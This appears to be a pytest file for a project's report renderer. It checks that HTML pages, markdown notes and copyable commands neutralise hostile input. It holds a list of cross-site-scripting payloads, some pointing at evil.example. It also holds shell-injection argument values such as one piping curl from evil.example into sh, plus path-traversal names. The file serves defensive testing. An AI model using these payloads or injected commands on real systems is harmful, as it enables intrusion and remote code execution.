"""Whatever a name, a message or a model's answer holds, a page and a markdown note show it."""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from markdown_it import MarkdownIt

from flows.catalog import plan_of
from flows.load import load_recipe
from flows.reports.comparison import ComparedRun, Comparison, comparison_page
from flows.reports.page import markdown, origin_of, page
from flows.reports.report import Admission, Gain, build_report
from flows.running.mlflow_notes import Source, run_note, stage_note
from flows.running.records import RunHead, RunRecord, RunState
from infra.errors import DamagedRecord
from infra.json_text import writable
from infra.shown_text import markdown_text, shown
from infra.store.artifacts import ArtifactRecord
from infra.store.manifest import StageWarning
from tests.parts.report_parts import finished_run

pytestmark = pytest.mark.unit

HOSTILE = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)" x="',
    "' autofocus onfocus=alert(1) '",
    "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x>",
    "</pre><iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>body{background:url(http://evil.example/x)}</style>",
    "<base href=http://evil.example/><form action=/><input name=x>",
    "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
    "<!--><math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "{{ 7 * 7 }}{% for x in y %}",
    "]]>&lt;b&gt;&#x3c;",
    "ok\x1b]8;;http://evil.example\x07click\x1b]8;;\x07\x9b31m\u202egnp.exe\u2066",
    "a\r\nb\u2028c\x00d\x7f",
    "[x](javascript:alert(1)) ![x](http://evil.example/p.png)",
    "x](http://evil.example) <http://evil.example> www.evil.example",
    "a|b\n| c | d |\n\n# Passed\n```\n---",
    r"\<img src=x onerror=alert(1)> \\<img src=x onerror=alert(1)> \[x\]\(y\)",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "half an emoji \ud83d",
]


class _Found(HTMLParser):
    """What of a page a browser would act on."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.links: list[str] = []
        self.scripts = 0
        self.others: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        named = {name: value or "" for name, value in attrs}
        self.others += [f"{tag} {name}" for name in named if name.startswith("on")]
        if tag in ("img", "iframe", "base", "form", "object", "embed", "animate", "math"):
            self.others.append(tag)
        if tag == "meta" and named.get("http-equiv", "refresh-free").lower() == "refresh":
            self.others.append("refresh")
        if tag == "a":
            self.links.append(named.get("href", ""))
        self.scripts += tag == "script"


_MARKDOWN = MarkdownIt("commonmark", {"html": True}).enable("table")


def _steering(text: str) -> list[str]:
    return [c for c in text if c not in "\t\n" and shown(c) != c]


@pytest.fixture(scope="module")
def record(tmp_path_factory: pytest.TempPathFactory) -> Iterator[RunRecord]:
    scratch = tmp_path_factory.mktemp("run")
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("TRIBUTARY_HOME", str(scratch / "home"))
        yield finished_run(scratch)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_report_shows_text_of_others_and_does_nothing_at_it(record: RunRecord, text: str) -> None:
    plan = plan_of("post-train", record.recipe(), {})
    title = writable(text)
    links = {title: "https://here.example/", "other": title, "Prefect run": "http://127.0.0.1:1/x"}
    record.put_state(RunState(state="failed", message=text, links=links))
    warning = StageWarning(what=text, cause=text, advice=text)
    refused = [{"id": text, "domain": text, "split": text, "reasons": [text], "cause": text}]
    gain = Gain(domain=text, since=text, before=0, after=1, mean=1, low=0, high=1, test=text)
    report = build_report(record, plan).model_copy(
        update={
            "run": text, "scores": {text: {text: 0.5}}, "tasks": {text: {text: 0.5}},
            "no_verdict": {text: {text: text}}, "warnings": {text: [warning]},
            "admissions": {text: Admission(counts={}, refused=refused)}, "gains": {text: gain},
        }
    )  # fmt: skip
    made = page(record, report, plan)
    found = _Found(made)
    assert (found.scripts, found.others, _steering(made)) == (4, [], [])
    assert {urlsplit(link).scheme for link in found.links} <= {"", "http", "https"}
    _only_text(markdown(report, [text]))


@pytest.mark.parametrize("text", HOSTILE)
def test_a_comparison_shows_text_of_others_and_does_nothing_at_it(text: str) -> None:
    spread: dict[str, Any] = {"mean": 0.5, "deviation": 0.1, "values": [0.4, 0.6]}
    scores: Any = {text: {text: spread}}
    found = Comparison.model_validate(
        {"runs": [text, text], "equal": [[text, text]], "scores": scores, "greedy": scores,
         "best_of": {}, "gains": scores, "seconds": {text: spread}, "differences": {text: [text]},
         "pairs": [{"first": text, "second": text, "scores": [], "why_not": text}]}
    )  # fmt: skip
    made = comparison_page(found, [ComparedRun(text, text, 0, text, 1.0, has_page=False)])
    seen = _Found(made)
    assert (seen.scripts, seen.others, _steering(made)) == (2, [], [])


@pytest.mark.parametrize("text", HOSTILE)
def test_descriptions_of_mlflow_show_text_of_others(text: str) -> None:
    recipe = load_recipe("cpu-smoke")
    planned = next(p for p in plan_of("post-train", recipe, {}) if p.name == "agent-rl")
    artifact = ArtifactRecord(kind="rl", digest="d", url=text, metrics={f"score/{text}": 0.5})
    sources = {text: Source(text, text)}
    _only_text(stage_note(text, planned, sources, {text: text}, artifact, text))
    _only_text(run_note("", {text: {text: 0.5}}, {text: text}))


def _only_text(written: str) -> None:
    made = _MARKDOWN.render(written.encode(errors="replace").decode())
    found = _Found(made)
    assert (found.scripts, found.others, found.links, _steering(made)) == (0, [], [], [])
    assert "<h1" not in made
    assert "<pre" not in made


def test_no_renderer_makes_a_link_of_an_address_in_a_name() -> None:
    said = "http://a.example www.a.example WWW.a.example a@b.example"
    assert markdown_text(said) == (r"http\://a.example www\.a.example WWW\.a.example a\@b.example")


@pytest.mark.parametrize(
    ("flow", "arguments"),
    [
        ("expert", {"name": "a; curl evil.example | sh"}),
        ("replay", {"stage": "$(curl evil.example)"}),
        ("distill-rounds", {"expert": "`id`\nid", "rounds": 1}),
        ("evaluate", {"models": {"a": "x\nid", "b": "\x1b[2J"}}),
        ("post-train", {"stages": {"until_stage": "a && id", "force_stages": ["b; id"]}}),
    ],
)
def test_a_command_that_a_page_offers_to_copy_runs_nothing_else(
    flow: str, arguments: dict[str, Any]
) -> None:
    head = RunHead(run="r", flow=flow, arguments=arguments, recipe={}, created=0.0)
    for command in origin_of(head, load_recipe("cpu-smoke"), []).commands:
        words = re.sub(r"'(?:[^']|'\"'\"')*'", "TEXT", command).partition("#")[0]
        assert not set(";|&$`()<>") & set(words), command
        assert "\n" not in re.sub(r"'[^']*'", "", command)


@pytest.mark.parametrize("name", ["../../x", "/etc/x", "a/b", "..", "a\0b"])
@pytest.mark.parametrize("field", ["job", "name"])
def test_no_record_of_a_shared_store_names_a_file_in_another_folder(
    record: RunRecord, field: str, name: str
) -> None:
    """A page shows the end of the log of a stage's job."""
    stage = {"name": "agent-rl", "kind": "rl", "state": "failed"} | {field: name}
    path = f"runs/{record.run}/stages/agent-rl.json"
    before = record.store.read(path)
    record.store.write(path, json.dumps(stage).encode())
    try:
        with pytest.raises(DamagedRecord, match="is no name of a file"):
            record.stage("agent-rl")
    finally:
        record.store.write(path, before)


def test_a_browser_runs_no_script_but_ours(record: RunRecord, tmp_path: Path) -> None:
    """Even where something of a page were not escaped."""
    sync_api = pytest.importorskip("playwright.sync_api")
    chromium = shutil.which("chromium")
    if chromium is None:
        pytest.skip("no chromium on this machine")
    plan = plan_of("post-train", record.recipe(), {})
    made = page(record, build_report(record, plan), plan)
    injected = (
        "<script>alert(1)</script><img src=x onerror=alert(2)><svg onload=alert(3)></svg>"
        "<a id=bad href='javascript:alert(4)'>x</a><iframe srcdoc='<script>alert(5)</script>'>"
        "</iframe><base href='http://evil.example/'>"
    )
    place = tmp_path / "page.html"
    place.write_text(made.replace("<main", injected + "<main"))
    ran: list[str] = []
    with sync_api.sync_playwright() as playwright:
        browser = playwright.chromium.launch(executable_path=chromium, args=["--no-sandbox"])
        shown_page = browser.new_page()
        shown_page.on("dialog", lambda dialog: (ran.append(dialog.message), dialog.dismiss()))
        shown_page.on("request", lambda r: r.url.startswith("http") and ran.append(r.url))
        shown_page.goto(place.as_uri())
        shown_page.locator("#bad").click(no_wait_after=True)
        shown_page.wait_for_timeout(100)
        assert shown_page.locator("#theme").inner_text() == "◐ auto", "our own script ran"
        browser.close()
    assert ran == []
